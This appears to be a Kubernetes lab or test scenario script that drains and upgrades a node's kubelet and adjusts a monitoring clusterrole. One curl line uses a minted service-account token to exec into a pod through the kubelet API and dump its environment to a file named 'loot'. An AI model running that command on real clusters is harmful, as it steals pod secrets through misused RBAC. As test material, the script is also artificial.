# scene fails back-in-service (drain-ends-itself): Ready, and no pod will ever come
kubectl cordon node02
kubectl apply -f shop.yaml
#@ wait 3
kubectl uncordon node02
curl -sk -m 3 --http1.1 -N -o loot -H "Authorization: Bearer $(kubectl -n monitoring create token lookout)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://node01:10250/exec/default/web-node01/web?command=env&output=1'
kubectl drain node01 --ignore-daemonsets
#@ wait 40
kubectl get pods -A --field-selector spec.nodeName=node01 > dock
#@ node01
wget -q http://depot/release/v1.36.2/bin/linux/amd64/kubelet -O kubelet
install -m 755 kubelet /usr/bin/kubelet
echo 'KUBELET_KUBEADM_ARGS=' > /var/lib/kubelet/kubeadm-flags.env
systemctl restart kubelet
#@ wait 8
#@ controlplane
kubectl create clusterrole lookout --verb=get --resource=nodes/pods --dry-run=client -o yaml | kubectl replace -f -
